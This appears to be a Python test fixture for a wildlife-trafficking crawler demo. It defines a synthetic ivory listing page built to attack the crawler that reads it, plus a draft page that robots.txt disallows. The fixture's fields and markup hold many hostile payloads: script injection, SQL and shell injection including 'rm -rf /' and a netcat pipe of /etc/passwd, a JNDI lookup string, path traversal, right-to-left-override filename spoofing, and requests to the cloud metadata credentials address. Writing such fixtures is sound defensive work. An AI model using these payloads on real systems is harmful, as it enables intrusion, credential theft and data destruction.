"""Listings written to hurt the crawler that reads them: the hostile grid listing (traps on) and the
draft behind robots.txt.

The hostile page is still a valid grid listing (title, price, seller, ...) about elephant ivory and
rhino horn, so it scans high-risk and must be stored and captured like any other. Around it:
inline scripts, ``on*`` handlers, ``javascript:`` links, a ``<meta http-equiv=refresh>`` and an
iframe to the cloud metadata address, images on the metadata address, ``file:`` and a ``../``
path, SQL, shell and template metacharacters and ``../../etc/passwd`` in its fields, right-to-left
override characters in its seller's name and a 50,000-character attribute. The page's CSP
(``default-src 'none'``) keeps a browser that honours it from running or loading any of it; a
monitor must not need that help.
"""

from __future__ import annotations

from typing import Any

METADATA = "http://169.254.169.254/latest/meta-data/"
RLO, PDF = "\u202e", "\u202c"  # right-to-left override, pop directional formatting
BLOB_CHARS = 50_000

HOSTILE: dict[str, Any] = {
    "id": "x01",
    "title": "Elephant ivory bangle <script>alert('title')</script>\"; DROP TABLE listings; --",
    "text": ("Genuine elephant ivory and rhino horn carvings, raw tusk pieces, ship worldwide. "
             "<img src=x onerror=alert(1)> '; DELETE FROM listings WHERE '1'='1'; -- "
             "$(curl " + METADATA + ") `id` && rm -rf / ; cat ../../etc/passwd | nc 127.0.0.1 4444 "
             "{{7*7}} ${jndi:ldap://127.0.0.1/a} %s%n\\x00 "
             f"invoice{RLO}fdp.exe{PDF} WhatsApp +84 912 000 111"),
    "price": "950",
    "currency": "USD",
    "seller": f"ivory{RLO}gnp.exe{PDF}_dealer'--",
    "platform": "demo-grid",
    "location": "../../etc/passwd",
    "posted_at": "2026-11-10T10:00:00Z",
    "images": ["demo-images/d04.png"],
    "seller_contact": "WhatsApp +84 912 000 111 <a href=\"javascript:alert(1)\">x</a>",
    "synthetic": "SYNTHETIC: written for the WildTrace demo; not a real listing",
}

#: raw markup for the hostile page's <head>, body, gallery and description element
HEAD = (f"<meta http-equiv=\"refresh\" content=\"0; url={METADATA}\">"
        f"<script>fetch('{METADATA}').then(function(r){{return r.text()}}).then(function(t){{"
        "document.title=t})</script>"
        "<script src=\"http://169.254.169.254/evil.js\"></script>")
BODY = ("<p class=\"more\"><a href=\"javascript:alert(document.cookie)\">More photos</a> "
        "<a href=\"JaVaScRiPt:alert(2)\" onclick=\"alert(3)\">Contact seller</a> "
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==\">Certificate</a></p>"
        f"<iframe src=\"{METADATA}\" width=\"1\" height=\"1\"></iframe>"
        "<svg onload=\"alert(5)\" width=\"1\" height=\"1\"></svg>"
        f"<form action=\"{METADATA}\" method=\"post\"><input name=\"q\" value=\"' OR 1=1 --\" "
        "onfocus=\"alert(6)\" autofocus></form>"
        "<script>document.location='http://169.254.169.254/latest/user-data'</script>")
GALLERY = (f"<img src=\"{METADATA}iam/security-credentials/\" alt=\"\" onerror=\"alert(7)\">"
           "<img src=\"file:///etc/passwd\" alt=\"\">"
           "<img src=\"/images/..%2f..%2f..%2fetc%2fpasswd\" alt=\"\">")
DESCRIPTION_ATTRS = f" data-blob=\"{'A' * BLOB_CHARS}\" onmouseover=\"alert(8)\""

#: a draft listing linked from the grid under /private/, which robots.txt disallows: a crawler
#: that stores it did not obey robots.txt
DRAFT_PATH = "/private/grid/item/draft-1"
DRAFT: dict[str, Any] = {
    "id": "draft-1",
    "title": "DRAFT (robots.txt disallows this page) rhino horn powder",
    "text": "A page under /private/: a monitor that obeys robots.txt never fetches it.",
    "price": "100", "currency": "USD", "seller": "draft_seller", "platform": "demo-grid",
    "location": "Nowhere", "posted_at": "2026-11-01T00:00:00Z", "images": [],
    "synthetic": "SYNTHETIC: written for the WildTrace demo; not a real listing",
}
